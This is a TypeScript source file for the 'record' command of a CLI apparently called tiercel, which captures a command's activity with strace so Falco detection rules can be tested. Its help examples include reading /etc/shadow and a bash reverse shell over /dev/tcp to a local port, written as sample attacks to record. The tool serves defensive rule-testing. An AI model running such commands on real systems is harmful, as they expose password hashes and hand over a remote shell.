import { Command } from 'commander';
import { recordCommand as record, type RecordResult } from '../daemon/index.ts';
import { Complaints } from './complaints.ts';
import { EXIT } from './exit.ts';
import { readSnaplen } from './flags.ts';
import { grouped, ProgressBar } from './progress.ts';
import { NOT_FOR_TERMINALS } from './terminal.ts';

interface Flags {
  readonly output: string;
  readonly keepLog?: string;
  readonly container?: string;
  readonly snaplen?: number;
  readonly env: boolean;
  readonly quiet?: true;
  readonly json?: true;
}

const EXAMPLES = `
Examples:
  $ tiercel record -o shadow.scap -- cat /etc/shadow
  $ tiercel replay shadow.scap -r falco_rules.yaml

  $ tiercel record -o attack.scap -- bash attack.sh
  $ tiercel record --no-env -o attack.scap.gz -- bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444; sh <&5 >&5 2>&5'
  $ tiercel record -o attack.scap --container nginx:1.27 -- sh -c 'cat /etc/shadow'
  $ tiercel record -q -o - -- sh attack.sh | tiercel replay - -r falco_rules.yaml
  $ tiercel record -o attack.jsonl --keep-log attack.strace -- ./attack --fast

The command runs under strace: no root, no driver, no Falco; it works in a container and in CI. The capture has the current schema, as
Falco 0.44 writes it, so that rules can be tested with the attack itself: with tiercel, or with Falco (engine.kind=replay).
It begins with the processes that the command descends from (without tiercel and strace), the users and the groups of the machine, and ends
when the command and everything that it started have ended. With -o -, what the command prints goes to standard error.

strace must be installed: apt-get install strace, dnf install strace or apk add strace.
What it cannot see, and how close the rest comes to a recording of Falco's own: docs/how-to/record-a-command.md.

Environments and data that are read and written are in the capture, with whatever secrets they hold: --no-env, --snaplen 0.

Exit status: 0 the command was recorded, however it ended (the summary says so); 2 it could not be run, or the capture not be written.`;

/** `tiercel record`: a command under strace, as a capture. */
export function recordCommand(): Command {
  return new Command('record')
    .description(
      'Runs a command and writes a capture of what it does, with strace: without root, driver and Falco.',
    )
    .argument('<command>', 'the command to run, after "--"')
    .argument('[arguments...]', 'its arguments')
    .passThroughOptions()
    .option(
      '-o, --output <file>',
      'file to write: .scap or .jsonl, and .gz; or "-" for standard output',
      'recording.scap',
    )
    .option('--container <image>', 'for rules: as if in a container of this image, wherever it really runs')
    .option(
      '--keep-log <file>',
      'keep the log of strace, of which tiercel convert makes the same capture again',
    )
    .option(
      '--snaplen <bytes>',
      'how much of data that is read and written an event holds (default: 80, as in Falco)',
      readSnaplen,
    )
    .option('--no-env', 'leave environments out')
    .option('-q, --quiet', 'no progress and no summary')
    .option('--json', 'the summary as JSON')
    .addHelpText('after', EXAMPLES)
    .action(async (command: string, args: readonly string[], flags: Flags) => {
      process.exitCode = await run(command, args, flags);
    });
}

async function run(command: string, args: readonly string[], flags: Flags): Promise<number> {
  const bar = new ProgressBar(process.stderr);
  const complaints = new Complaints(bar);
  if (flags.output === '-' && process.stdout.isTTY) {
    complaints.tell(NOT_FOR_TERMINALS);
    return EXIT.couldNotRun;
  }
  const result = await record({
    command,
    args,
    ...flags,
    ...(flags.quiet !== true && { onProgress: (progress) => bar.update(progress) }),
  });
  bar.clear();
  result.diagnostics.forEach(complaints.tell);
  if (flags.quiet !== true)
    process.stderr.write(
      `${flags.json === true ? summaryJson(result) : summaryText(result, command, flags.output)}\n`,
    );
  return complaints.failed ? EXIT.couldNotRun : EXIT.fine;
}

function summaryJson({ events, created, code }: RecordResult): string {
  return JSON.stringify({ events, created, code });
}

function summaryText({ events, created, code }: RecordResult, command: string, output: string): string {
  const ended = `${command} ended with exit code ${code}`;
  return created
    ? `${ended}; ${grouped(events)} events written to ${output === '-' ? 'standard output' : output}`
    : `${ended}; nothing was written`;
}
